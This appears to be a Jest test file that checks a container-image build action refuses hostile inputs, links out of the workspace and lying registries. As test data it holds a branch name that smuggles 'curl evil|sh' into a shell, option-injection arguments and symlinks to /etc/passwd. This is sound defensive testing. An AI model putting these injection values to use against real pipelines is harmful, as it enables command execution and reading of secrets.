import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { type IncomingMessage, type ServerResponse, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { tagTable } from '../../../actions/build-image/src/report.ts';
import { imageRegistry } from '../../../src/adapters/registry/registry.ts';
import { leadsOut } from '../../../src/adapters/system/files.ts';
import { isCacheFault } from '../../../src/domain/image-build/command.ts';
import { fakeClock } from '../../fakes/clock.ts';
import { recordingLog } from '../../fakes/log.ts';
import { runBundle } from '../../harness/run-bundle.ts';
import { SHA } from '../../domain/tags/events.ts';
import { play } from './played.ts';
import { type Services, startServices } from './services.ts';

/** A limit for a machine that is busy, and no measure. */
jest.setTimeout(60_000);
const { signal } = new AbortController();
let services: Services;
let folder = '';
beforeAll(async () => {
  services = await startServices();
  folder = mkdtempSync(join(tmpdir(), 'sluice-hostile-'));
});
afterAll(async () => {
  rmSync(folder, { recursive: true });
  await services.close();
});
const at = (path: string, more: Readonly<Record<string, string>> = {}) => ({
  repository: `${services.host}/${path}`,
  tags: 'type=raw,value=tested',
  ...more,
});

describe('inputs that somebody else wrote', () => {
  test.each<[name: string, inputs: Readonly<Record<string, string>>, problem: RegExp]>([
    ['a context that is an option', { context: '--output=type=local,dest=/' }, /context: .* is an option, and no path/],
    ['a context on standard input', { context: '-' }, /context: .* is an option/],
    ['a context elsewhere', { context: 'https://example.com/evil.git' }, /context: .* is elsewhere/],
    ['a context of GitHub', { context: 'github.com/evil/evil' }, /context: .* is elsewhere/],
    ['a Dockerfile that is an option', { file: '-' }, /file: .* is an option/],
    ['a name of the image in one letter', { 'extra-args': '-tghcr.io/evil/evil' }, /extra-args: .*not a long option/],
    ['letters that stand together', { 'extra-args': '-qtghcr.io/evil/evil' }, /extra-args: .*not a long option/],
    ['the end of the options', { 'extra-args': '--' }, /extra-args: .*not a long option/],
    ['a secret in an extra argument', { 'extra-args': '--build-arg=NPM_TOKEN=hunter2' }, /"--build-arg" is set by build-image/],
    ['provenance behind the input', { 'extra-args': '--attest=type=provenance' }, /"--attest" is set by build-image/],
    ['a secret with another name', { 'build-args': `NPM=ghp_${'a'.repeat(36)}` }, /NPM looks like a secret/],
    ['a secret in other letters', { 'build-args': 'npmToken=hunter2' }, /npmToken looks like a secret/],
    ['a cache that becomes an image of Docker Hub', { 'cache-from': 'gha' }, /cache-from: "gha" has no registry/],
    ['a misspelt kind of cache', { 'cache-to': 'type=registri,ref=x/y' }, /cache-to: .* is no kind of cache/],
    ['a cache that an old client reads as an image', { 'cache-from': 'type=gha,scope=web' }, /cache-from: a cache other than an image is not possible/],
    ['limits without a scan', { 'scan-max': '{ critical: 0 }', 'on-scan-error': 'warn' }, /2 problems.*scan-max: is given, and nothing is scanned.*on-scan-error: is given/s],
    ['a scan of ECR elsewhere', { scan: 'ecr' }, /scan: "ecr" is for images in ECR/],
    ['Trivy without its release', { scan: 'trivy' }, /trivy-version: is needed.*trivy-sha256: is needed/s],
    ['what another mode does', { source: 'r/x@sha256:1', 'untagged-older-than': '7d' }, /source: has no meaning for mode: build.*untagged-older-than: has no meaning/s],
    ['an identity that everybody deploys by', { 'identity-tag': 'Latest' }, /identity-tag: "Latest" is a tag that moves/],
    ['an identity that is the branch', { tags: 'type=ref,event=branch', 'identity-tag': '{{version}}' }, /identity-tag: "main" is a tag that moves/],
    ['a name that is a path', { name: '../../etc/evil' }, /name: .* is not name/],
    ['the label by which images are found again', { labels: 'sluice.inputs-sha256=x' }, /labels: .* set by build-image/],
  ])('%s is refused', async (_name, inputs, problem) => {
    const { failure, commands } = await play(services, { inputs: at('team/hostile', inputs) });
    expect(failure).toMatch(problem);
    expect(failure).not.toMatch(/hunter2|ghp_a/);
    expect(commands).toEqual([]);
  }); // prettier-ignore

  test.each([['pull'], ['no-cache']])('%s is done, whatever is there of this commit', async (input) => {
    const inputs = at(`team/${input}`);
    await play(services, { inputs });
    const again = await play(services, { inputs: { ...inputs, [input]: 'true' } });
    expect(again).toMatchObject({
      result: { kind: 'pushed', identity: expect.stringMatching(`^sha-${SHA}-[0-9a-f]{12}$`) },
    });
  });

  test('a name of the greatest length is cut so that it is another one', async () => {
    const inputs = at('team/long', { 'identity-tag': 'v'.repeat(128) });
    await play(services, { inputs });
    const other = await play(services, { inputs: { ...inputs, labels: 'a=b' } });
    expect(other).toMatchObject({ result: { identity: expect.stringMatching(/^v{115}-[0-9a-f]{12}$/) } });
  });

  test('limits beside a scan that is none on purpose are for the runs that scan', async () => {
    const { failure } = await play(services, { inputs: at('team/fork', { scan: 'none', 'scan-max': '{ high: 0 }' }) });
    expect(failure).toBe('');
  });

  test('an event for which no rule gives a tag is said', async () => {
    const { log, result } = await play(services, { inputs: at('team/untagged', { tags: 'type=ref,event=tag' }) });
    expect(result).toMatchObject({ kind: 'pushed', tags: { set: [] } });
    expect(log.lines.join('\n')).toMatch(/No rule of tags is meant for push of refs\/heads\/main/);
  });

  test('a value of the environment decides the image as one that is written does', async () => {
    const inputs = at('team/environment', { 'build-args': 'CHANNEL' });
    const first = await play(services, { inputs, environment: { CHANNEL: 'stable' } });
    expect(await play(services, { inputs, environment: { CHANNEL: 'stable' } })).toMatchObject({ result: { kind: 'reused' } });
    const other = await play(services, { inputs, environment: { CHANNEL: 'beta' } });
    expect([first.result?.kind, other.result?.kind]).toEqual(['pushed', 'pushed']);
  }); // prettier-ignore

  test.each([
    ['feature/$(curl evil|sh)`id`', /^feature-curl-evil-sh-id--[0-9a-f]{6}$/],
    ['-rf', /^rf-[0-9a-f]{6}$/],
    ['..', /^[0-9a-f]{6}$|^[A-Za-z0-9_][A-Za-z0-9._-]*$/],
    ['x\u202Eevil\u0000', /^x-evil-[0-9a-f]{6}$/],
  ])('the branch %j is a plain tag, and nothing of it reaches a shell', async (branch, tag) => {
    const run = await runBundle({
      action: 'build-image',
      inputs: at('team/branch', { tags: 'type=ref,event=branch', 'dry-run': 'true' }),
      env: { GITHUB_EVENT_NAME: 'push', GITHUB_REF: `refs/heads/${branch.replaceAll('\0', '')}`, PATH: '/nowhere' },
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs['tags']?.split('\n').at(-1)?.split(':').at(-1)).toMatch(tag);
  });

  test('megabytes in one line are no hours', () => {
    const started = process.cpuUsage().user;
    expect(isCacheFault(`${'error '.repeat(700_000)}\nERROR: exit code: 1`)).toBe(false);
    // Over the whole of it, the pattern needs minutes.
    expect(process.cpuUsage().user - started).toBeLessThan(5_000_000);
  });
});

describe('links in a commit', () => {
  test('that lead out of the workspace are found, and those inside are not', async () => {
    const workspace = join(folder, 'workspace');
    mkdirSync(join(workspace, 'web'), { recursive: true });
    writeFileSync(join(folder, 'secret'), 'x');
    symlinkSync('/', join(workspace, 'root'));
    symlinkSync('../secret', join(workspace, 'out'));
    symlinkSync('web', join(workspace, 'inside'));
    symlinkSync('nowhere', join(workspace, 'dangling'));
    const ways = ['root', 'root/etc', 'out', 'inside', 'web', 'dangling', 'missing', '../secret', folder];
    const found = await Promise.all(ways.map(async (way) => [way, await leadsOut(workspace, way)] as const));
    expect(found.filter(([, place]) => place !== undefined).map(([way]) => way)).toEqual(['root', 'root/etc', 'out']);
  });

  test('are refused before anything is read: context, Dockerfile and secret, in one message', async () => {
    const workspace = join(folder, 'checkout');
    mkdirSync(workspace);
    symlinkSync('/', join(workspace, 'web'));
    symlinkSync('/etc/hostname', join(workspace, 'npmrc'));
    const run = await runBundle({
      action: 'build-image',
      inputs: at('team/links', { context: 'web', file: 'web/etc/passwd', 'secret-files': 'npmrc=npmrc' }),
      env: { GITHUB_WORKSPACE: workspace },
    });
    expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'invalid-input', changed: 'false' } });
    expect(run.annotations[0]?.message).toMatch(
      /3 problems.*context: "web" is a link out of the workspace.*file: .*secret-files: "npmrc" is a link/s,
    );
  });
});

describe('a registry that lies', () => {
  /** `answer` is the whole of it. */
  async function registryOf(answer: (request: IncomingMessage, response: ServerResponse) => void) {
    const server = createServer(answer);
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    const tools = {
      clock: fakeClock({ mode: 'automatic' }),
      random: { fraction: () => 0, token: () => 'token' },
      log: recordingLog(),
      mask: () => undefined,
    };
    return {
      images: imageRegistry({ host, credentials: () => Promise.resolve(undefined) }, tools),
      async close() {
        server.closeAllConnections();
        await new Promise((closed) => server.close(closed));
      },
    };
  }
  const endless = (response: ServerResponse, status: number): void => {
    response.writeHead(status, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' });
    const piece = Buffer.alloc(256 * 1024, 'x');
    const more = (): void => {
      while (!response.destroyed && response.write(piece));
      if (!response.destroyed) response.once('drain', more);
    };
    more();
  };

  test.each<[name: string, answer: Parameters<typeof registryOf>[0], why: RegExp]>([
    ['with a manifest that does not end', (_, response) => endless(response, 200), /more than 4194304 bytes/],
    ['with a refusal that does not end', (_, response) => endless(response, 403), /status 403/],
    ['with the page of a portal', (_, response) => void response.end('<html>log in</html>'), /the answer is no JSON/],
    ['with JSON that is no object', (_, response) => void response.end('null'), /neither an image nor an index/],
  ])('%s is an error that says so', async (_name, answer, why) => {
    const { images, close } = await registryOf(answer);
    await expect(images.manifest('team/web', 'main', signal)).rejects.toThrow(why);
    await close();
  });

  test('with a list of tags that does not end is an error that says so', async () => {
    const { images, close } = await registryOf((_, response) => {
      response.setHeader('link', '</v2/team/web/tags/list?n=1000&last=x>; rel="next"');
      response.end('{"tags":["1"]}');
    });
    await expect(images.tags('team/web', signal)).rejects.toThrow(/the list of the registry has no end/);
    await close();
  });

  test('about the digest of a tag: the image is what its bytes are', async () => {
    const manifest = JSON.stringify({ schemaVersion: 2, config: {}, layers: [] });
    const { images, close } = await registryOf((_, response) => {
      response.setHeader('docker-content-digest', `sha256:${'a'.repeat(64)}`);
      response.setHeader('content-type', 'application/vnd.oci.image.manifest.v1+json').end(manifest);
    });
    const wanted = `sha256:${'a'.repeat(64)}`;
    await expect(images.manifest('team/web', wanted, signal)).rejects.toThrow(/the registry answered with sha256:/);
    await close();
  });
});

describe('a tag that was another image', () => {
  test('moves with a warning when it is a version, and without one when it floats; both are told with what they were', async () => {
    const path = 'team/again';
    const at = (tag: string) => `${services.host}/${path}:${tag}`;
    const before = services.put(path, '1.2.3', { first: 'yes' }).digest;
    for (const floating of ['1.2', 'latest']) services.put(path, floating, { first: 'yes' });
    const tags = 'type=semver,pattern={{version}}\ntype=semver,pattern={{major}}.{{minor}}';
    const inputs = { repository: `${services.host}/${path}`, tags };
    const { result, log } = await play(services, { event: 'release', inputs });
    expect(log.warnings).toEqual([`${at('1.2.3')} is a version that was released before: it was ${before}, and is another image now`]);
    const moved = result !== undefined && 'tags' in result ? result.tags : undefined;
    expect([...(moved?.was ?? [])]).toEqual(['1.2.3', '1.2', 'latest'].map((tag) => [at(tag), before]));
    expect(JSON.stringify(moved && tagTable(moved))).toContain(`set and read back, was ${before}`);
    const again = await play(services, { event: 'release', inputs });
    expect(again.log.warnings).toEqual([]);
  }); // prettier-ignore
});

describe('another writer', () => {
  test('that releases a newer version between the look and the write gets its floating tags back', async () => {
    const path = 'team/raced';
    let newer = '';
    services.onPut = (where, tag) => {
      if (where !== path || tag !== '1.2' || newer !== '') return;
      newer = services.put(path, '1.2.9', { version: '1.2.9' }).digest;
      services.put(path, '9.0.0', { version: '9.0.0' });
    };
    const tags = 'type=semver,pattern={{version}}\ntype=semver,pattern={{major}}.{{minor}}';
    const { result, log, failure } = await play(services, { event: 'release', inputs: at(path, { tags }) });
    services.onPut = () => undefined;
    expect(failure).toBe('');
    expect(result).toMatchObject({ tags: { set: [`${services.host}/${path}:1.2.3`] } });
    expect(services.tag(path, '1.2')).toBe(newer);
    expect(services.tag(path, 'latest')).toBe(services.tag(path, '9.0.0'));
    expect(log.warnings.join('\n')).toMatch(/:1\.2 is given back: 1\.2\.9 is newer than 1\.2\.3.*\n.*latest is given back: 9\.0\.0/);
  }); // prettier-ignore
});
